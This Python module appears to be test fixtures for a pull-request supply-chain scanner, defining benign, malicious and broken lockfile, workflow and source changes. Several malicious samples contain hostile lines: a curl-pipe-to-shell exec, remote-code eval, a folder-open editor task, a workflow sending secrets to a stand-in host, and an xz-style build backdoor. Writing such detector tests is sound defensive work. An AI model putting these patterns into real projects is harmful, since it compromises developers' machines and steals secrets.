"""Pull requests as people and attackers write them: what the base holds, what becomes of it, what must follow."""

from __future__ import annotations

import json
from typing import Any, NamedTuple

Files = dict[str, str | None]

REGISTRY = "https://{registry}"
_LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"


class Pull(NamedTuple):
    """One pull request."""

    name: str
    before: Files
    after: Files
    status: int = 0
    told: tuple[str, ...] = ()
    """Words of which each stands in the title or reason of some finding, or in a problem."""
    code: bool = False
    """Whether the rule engine is needed."""
    internal: tuple[str, ...] = ()


def digest(name: str, version: str, turn: int = 0) -> str:
    """A digest as npm writes it, of nothing in particular."""
    seed = sum(map(ord, f"{name}{version}")) + turn
    return "sha512-" + "".join(_LETTERS[(seed * (place + 7)) % 52] for place in range(86)) + "=="


def entry(name: str, version: str, **others: Any) -> dict[str, Any]:
    """One package of an npm lockfile; a value of `None` takes a field away."""
    short = name.rpartition("/")[2]
    fields: dict[str, Any] = {
        "version": version,
        "resolved": f"{REGISTRY}/{name}/-/{short}-{version}.tgz",
        "integrity": digest(name, version),
    }
    return {key: value for key, value in (fields | others).items() if value is not None}


HONEST = {"express": "4.21.2", "semver": "7.7.2", "nanoid": "5.1.5"}


def lock(packages: dict[str, Any] | None = None, *, members: tuple[str, ...] = ()) -> str:
    """A package-lock.json of the honest packages and these; a package is a version or an entry."""
    every: dict[str, Any] = HONEST | (packages or {})
    entries = {
        f"node_modules/{name}": one if isinstance(one, dict) else entry(name, one) for name, one in every.items()
    }
    for name in members:
        entries |= {name: {"version": "1.0.0"}, f"node_modules/{name}": {"resolved": name, "link": True}}
    root = {"name": "shop", "version": "1.0.0", "workspaces": [*members], "dependencies": dict.fromkeys(every, "*")}
    body = {"name": "shop", "version": "1.0.0", "lockfileVersion": 3, "packages": {"": root, **entries}}
    return json.dumps(body, indent=2) + "\n"


def unasked(name: str) -> str:
    """A lock with a package that nothing in it asks for."""
    body = json.loads(lock({name: "1.0.0"}))
    del body["packages"][""]["dependencies"][name]
    return json.dumps(body, indent=2) + "\n"


def manifest(name: str = "shop", **others: Any) -> str:
    return json.dumps({"name": name, "version": "1.0.0", **others}, indent=2) + "\n"


def uv(version: str, uploaded: str) -> str:
    file = f'url = "https://{{registry}}/packages/idna-{version}.whl", hash = "sha256:{version[-1] * 64}"'
    return f"""\
version = 1

[[package]]
name = "idna"
version = "{version}"
source = {{ registry = "https://{{registry}}/simple" }}
wheels = [{{ {file}, upload-time = "{uploaded}" }}]
"""


LOCK = "package-lock.json"
TINY = '"use strict";\nmodule.exports = function tiny(text) {\n  return String(text).trim();\n};\n'
EVIL = TINY.replace("  return", '  require("child_process").exec("curl -s https://collect.invalid/s | sh");\n  return')
FETCH = 'require("https").get("https://a.invalid/p", r => r.on("data", d => eval(String(d))));\n'
VENDORED: Files = {"vendor/tiny/package.json": manifest("tiny", main="index.js"), "vendor/tiny/index.js": TINY}
WORKFLOW = """\
name: build
on:
  pull_request:
permissions:
  contents: read
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
      - run: npm ci --ignore-scripts
      - run: npm test
"""
HIDDEN = "".join(chr(0xE0100 + number) for number in range(40))
TASKS = {"version": "2.0.0", "tasks": [{"label": "x", "type": "shell", "command": "curl -s https://a.invalid/x | sh",
                                        "runOptions": {"runOn": "folderOpen"}}]}  # fmt: skip

BENIGN = [
    Pull("a patch update", {LOCK: lock()}, {LOCK: lock({"semver": "7.7.3"})}),
    Pull("a new package", {LOCK: lock()}, {LOCK: lock({"picocolors": "1.1.1"})}),
    Pull("a package goes", {LOCK: lock({"picocolors": "1.1.1"})}, {LOCK: lock()}),
    Pull("a downgrade", {LOCK: lock()}, {LOCK: lock({"semver": "7.6.0"})}),
    Pull("the lockfile written anew", {LOCK: lock()}, {LOCK: json.dumps(json.loads(lock()), indent=4)}),
    Pull("the lockfile moves", {LOCK: lock()}, {LOCK: None, f"web/{LOCK}": lock()}),
    Pull("many updates at once", {LOCK: lock({f"lib-{n}": "1.0.0" for n in range(200)})},
         {LOCK: lock({f"lib-{n}": "1.0.1" for n in range(200)})}),
    Pull("a member of the workspace", {LOCK: lock()},
         {LOCK: lock(members=("tools",)), "tools/package.json": manifest("tools")}),
    Pull("source code that starts programs", {"src/app.js": TINY}, {"src/app.js": EVIL}, code=True),
    Pull("a refactoring", {"src/a.js": TINY, "src/b.js": EVIL}, {"src/a.js": None, "src/c.js": TINY, "src/b.js": None,
         "src/lib/b.js": EVIL}, code=True),
    Pull("a vendored copy follows its upstream", VENDORED,
         {"vendor/tiny/package.json": manifest("tiny", main="index.js").replace("1.0.0", "1.0.1"),
          "vendor/tiny/index.js": TINY.replace("trim", "trimEnd")}, code=True),
    Pull("a test script", {"package.json": manifest()}, {"package.json": manifest(scripts={"test": "node --test"})},
         code=True),
    Pull("a workflow gains a step", {".github/workflows/b.yml": WORKFLOW},
         {".github/workflows/b.yml": WORKFLOW + "      - run: npm run lint\n"}, code=True),
    Pull("documentation", {"README.md": "# Shop\n"}, {"README.md": "# Shop\n\nRun `npm ci`, then `npm test`.\n"},
         code=True),
    Pull("a python lock", {"requirements.txt": "idna==3.10 --hash=sha256:" + "a" * 64 + "\n"},
         {"requirements.txt": "idna==3.11 --hash=sha256:" + "b" * 64 + "\n"}),
]  # fmt: skip

MALICIOUS = [
    Pull("an update to a bad release", {LOCK: lock({"axios": "1.13.2"})}, {LOCK: lock({"axios": "1.14.1"})}, 1,
         ("axios 1.14.1 is a compromised release",)),
    Pull("from one bad release to another", {LOCK: lock({"axios": "1.14.1"})}, {LOCK: lock({"axios": "0.30.4"})}, 1,
         ("axios 0.30.4 is a compromised release",)),
    Pull("a bad package below another", {LOCK: lock()}, {LOCK: lock({"plain-crypto-js": "4.2.1"})}, 1,
         ("plain-crypto-js",)),
    Pull("a resolved address of a stranger", {LOCK: lock()},
         {LOCK: lock({"semver": entry("semver", "7.7.2", resolved="https://npm.stranger.invalid/semver/-/semver-7.7.2.tgz")})},
         1, ("npm.stranger.invalid",)),
    Pull("plain http", {LOCK: lock()},
         {LOCK: lock({"semver": entry("semver", "7.7.3", resolved="http://{registry}/semver/-/semver-7.7.3.tgz")})},
         1, ("plain http",)),
    Pull("another digest for the same version", {LOCK: lock()},
         {LOCK: lock({"semver": entry("semver", "7.7.2", integrity=digest("semver", "7.7.2", 5))})},
         1, ("another digest",)),
    Pull("no digest any more", {LOCK: lock()}, {LOCK: lock({"semver": entry("semver", "7.7.3", integrity=None)})}, 1,
         ("has no digest",)),
    Pull("the address serves another package", {LOCK: lock()},
         {LOCK: lock({"semver": entry("semver", "7.7.2", resolved=f"{REGISTRY}/semvver/-/semvver-7.7.2.tgz")})}, 1,
         ("lies at the address",)),
    Pull("a package moves to a git branch", {LOCK: lock()},
         {LOCK: lock({"semver": entry("semver", "7.7.2", resolved="git+ssh://git@forge.invalid/x/semver.git#main",
                                      integrity=None)})}, 1, ("no longer from",)),
    Pull("dependency confusion", {LOCK: lock()}, {LOCK: lock({"@corp/tools": "99.0.0"})}, 1, ("bears a name of ours",),
         internal=("@corp/*",)),
    Pull("a vendored file is edited in place", VENDORED, {"vendor/tiny/index.js": EVIL}, 1, ("vendor/tiny",),
         code=True),
    Pull("a vendored update gains a power", VENDORED,
         {"vendor/tiny/package.json": manifest("tiny", main="index.js").replace("1.0.0", "1.0.1"),
          "vendor/tiny/index.js": EVIL}, 1, ("vendor/tiny",), code=True),
    Pull("a lifecycle script that fetches code", {"package.json": manifest()},
         {"package.json": manifest(scripts={"postinstall": "node tools/setup"}), "tools/setup.js": FETCH}, 1,
         ("this repository",), code=True),
    Pull("an editor runs a command when the folder is opened", {"README": "x"},
         {".vscode/tasks.json": json.dumps(TASKS, indent=1)}, 1, (".vscode/tasks.json",), code=True),
    Pull("invisible text", {"src/app.js": TINY}, {"src/app.js": f"{TINY}const x = `{HIDDEN}`;\n"}, 1,
         ("this repository",), code=True),
    Pull("a workflow follows a tag instead of a commit", {".github/workflows/b.yml": WORKFLOW},
         {".github/workflows/b.yml": WORKFLOW.replace("11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2", "v4")
          + "      - run: curl -s https://a.invalid/x | bash\n        env: {T: '${{ toJSON(secrets) }}'}\n"}, 1,
         ("this repository",), code=True),
    Pull("a build script reads test data", {"configure": "#!/bin/sh\necho ok\n", "tests/data.xz": "x"},
         {"configure": "#!/bin/sh\nhead -c 100 tests/data.xz | tr a b | xz -d | sh\necho ok\n"}, 1,
         ("this repository",), code=True),
]  # fmt: skip

NOTICED = [
    Pull("an alias", {LOCK: lock()}, {LOCK: lock({"trim": entry("semver", "7.7.2") | {"name": "semver"}})}, 0,
         ("semver 7.7.2 is installed under the name trim",)),
    Pull("a weaker digest", {LOCK: lock()},
         {LOCK: lock({"semver": entry("semver", "7.7.3", integrity="sha1-" + "A" * 27 + "=")})}, 0,
         ("is held to a weaker digest",)),
    Pull("a new package by a branch of a repository", {LOCK: lock()},
         {LOCK: lock({"picotrim": entry("picotrim", "1.0.0", resolved="git+ssh://git@forge.invalid/x/picotrim.git#main",
                                        integrity=None)})}, 0, ("follows a branch or tag",)),
    Pull("an entry that nothing asks for", {LOCK: lock()},
         {LOCK: unasked("picotrim")}, 0,
         ("nothing in it asks for it",)),
    Pull("a name beside a popular one", {LOCK: lock()}, {LOCK: lock({"expresss": "1.0.0"})}, 0,
         ("is called almost like express",)),
    Pull("a file joins a release", {"requirements.txt": "idna==3.10 --hash=sha256:" + "a" * 64 + "\n"},
         {"requirements.txt": "idna==3.10 --hash=sha256:" + "a" * 64 + " --hash=sha256:" + "b" * 64 + "\n"}, 0,
         ("accepts further files",)),
    Pull("a release of this morning", {"uv.lock": uv("3.10", "2025-01-01T00:00:00Z")},
         {"uv.lock": uv("3.11", "2026-11-29T06:00:00Z")}, 0, ("was published 6 hours before",)),
]  # fmt: skip
"""Told to the reviewer, and no reason to stop by the default gate."""

LOSSES = [
    Pull("conflict markers", {LOCK: lock()},
         {LOCK: lock().replace('"packages"', '<<<<<<< a\n"packages"\n=======\n>>>>>>> b')}, 3, ("package-lock.json",)),
    Pull("conflict markers in a lock of lines", {"uv.lock": uv("3.10", "2025-01-01T00:00:00Z")},
         {"uv.lock": uv("3.10", "2025-01-01T00:00:00Z") + "<<<<<<< a\n=======\n>>>>>>> b\n"}, 3,
         ("an unresolved merge",)),
    Pull("a truncated lock", {LOCK: lock()}, {LOCK: lock()[:400]}, 3, ("package-lock.json",)),
    Pull("a lock that is emptied", {LOCK: lock()}, {LOCK: ""}, 3, ("package-lock.json",)),
]  # fmt: skip

ALL = [*BENIGN, *MALICIOUS, *NOTICED, *LOSSES]
